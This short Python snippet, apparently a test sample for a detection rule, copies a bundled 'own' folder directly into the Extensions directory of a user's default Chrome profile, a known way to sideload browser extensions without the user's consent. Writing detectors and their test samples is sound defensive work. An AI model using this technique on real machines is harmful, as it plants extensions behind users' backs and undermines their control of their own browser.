import os, shutil

def add(folder):
    profile = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default")
    shutil.copytree(os.path.join(os.path.dirname(__file__), "own"), os.path.join(profile, "Extensions", "own"))  # fires: call
